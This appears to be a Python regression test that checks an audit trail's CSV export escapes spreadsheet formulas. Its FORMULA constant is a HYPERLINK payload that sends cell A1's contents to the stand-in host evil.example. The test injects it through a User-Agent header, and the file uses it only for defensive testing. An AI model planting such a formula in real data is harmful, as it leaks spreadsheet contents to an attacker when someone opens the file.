"""The audit trail's CSV export is for spreadsheets: no cell runs as a formula (found in review)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from core.settings import Settings
from core.spreadsheet import FORMULA_STARTS
from tests.app.test_backup import careloop
from tests.factories import LOGIN, Tenant

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'


async def test_the_audit_csv_export_never_starts_a_cell_with_a_formula(
        tenant: Tenant, settings: Settings, database: str, tmp_path: Path) -> None:
    """Any request's User-Agent, an anonymous failed sign-in's included, is on the trail: it was exported as it
    came, and a compliance officer opening the CSV ran the caller's formula. Now such a cell starts with a quote;
    the NDJSON export, the evidence, keeps the value as hashed."""
    reply = await tenant.client.post(
        "/graphql", json={"query": LOGIN, "variables": {"email": tenant.emails["nurse"],
                                                         "password": "wrong password 123"}},
        headers={"user-agent": FORMULA})
    assert reply.status_code == 200
    files = {fmt: tmp_path / f"trail.{fmt}" for fmt in ("csv", "ndjson")}
    for fmt, output in files.items():
        done = careloop(settings, database, settings.attachment_dir, "audit", "export", "--institution",
                        str(tenant.id), "--format", fmt, "--output", str(output))
        assert done.returncode == 0, done.stderr
    evidence = [json.loads(line) for line in files["ndjson"].read_text(encoding="utf-8").splitlines()]
    assert FORMULA in [event.get("user_agent") for event in evidence]  # the evidence: the value as hashed
    rows = list(csv.DictReader(io.StringIO(files["csv"].read_text(encoding="utf-8"))))
    assert ["'" + FORMULA] == [row["user_agent"] for row in rows if "evil.example" in row["user_agent"]]
    formulas = [(column, value) for row in rows for column, value in row.items() if value[:1] in FORMULA_STARTS]
    assert formulas == [], formulas
